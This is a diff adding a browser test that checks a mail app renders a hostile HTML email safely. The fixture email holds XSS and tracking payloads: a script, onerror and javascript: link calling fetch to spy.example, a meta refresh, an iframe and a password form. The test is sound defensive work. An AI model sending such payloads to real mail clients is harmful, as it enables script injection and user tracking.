@@ -6,6 +6,7 @@ import { runDueJobs } from '#jobs/run-due-jobs.ts'
 import { anApp, type TestApp } from '#test/support/app.ts'
 import { aBrowser, password } from '#test/support/browser.ts'
 import { aMail, anInbox, arrive, arriveAndRead, threadsOf } from '#test/support/inbound.ts'
+import { aThread as aConversation } from '#test/support/conversations.ts'
 import { describeWith } from '#test/support/needs.ts'
 import { aMember, anAccount, aUser } from '#test/support/people.ts'
 import { atLevel, levelOf, withSeats } from '#test/support/seats.ts'
@@ -141,6 +142,46 @@ describeWith(['chromium'], 'the story of a conversation, in a browser', () => {
       },
     )
   })
+
+  test(
+    'a hostile mail runs nothing, sends nothing and loads nothing until its pictures are asked for',
+    { timeout: 120_000 },
+    async () => {
+      const account = await anAccount({ name: 'Nordwind', owner: await aUser({ password }) })
+      await withSeats(account, 1)
+      await atLevel(account.owner, 'agent')
+      const thread = await aConversation(account, {
+        text: '',
+        html: `
+          <script>parent.document.title = 'taken'; fetch('https://spy.example/script')</script>
+          <img src="https://spy.example/pixel.gif" onerror="fetch('https://spy.example/onerror')" alt="The plan">
+          <p style="background:url(https://spy.example/style.gif)">Good <b>morning</b></p>
+          <link rel="stylesheet" href="https://spy.example/sheet.css">
+          <meta http-equiv="refresh" content="0;url=https://spy.example/refresh">
+          <iframe src="https://spy.example/frame"></iframe>
+          <form action="https://spy.example/form"><input name="password" autofocus></form>
+          <a href="https://shop.example/">Our shop</a><a href="javascript:fetch('https://spy.example/link')">Click</a>`,
+      })
+      const page = await browser.page({ as: account.owner })
+      const asked: string[] = []
+      await page.context().route(/^https:/, async (route) => {
+        asked.push(new URL(route.request().url()).pathname)
+        await route.fulfill({ status: 200, contentType: 'image/gif', body: Buffer.from('GIF89a') })
+      })
+      await page.goto(`/a/${account.id}/inbox/${thread}`)
+      const mail = page.frameLocator('iframe')
+      await mail.getByText('morning').waitFor()
+      await mail.getByText('Click').click()
+      expect(await mail.locator('script, form, input, iframe, link, meta[http-equiv]').count()).toBe(0)
+      expect(await mail.getByRole('link', { name: 'Our shop' }).getAttribute('rel')).toContain('noopener')
+      expect(asked).toEqual([])
+      await page.getByRole('link', { name: 'Load pictures' }).click()
+      await expect.poll(() => asked).toEqual(['/pixel.gif'])
+      await mail.getByText('morning').waitFor()
+      expect(await page.title()).not.toContain('taken')
+      await page.context().close()
+    },
+  )
 
   test(
     'what is typed stays while a new message appears, and who else writes is shown',
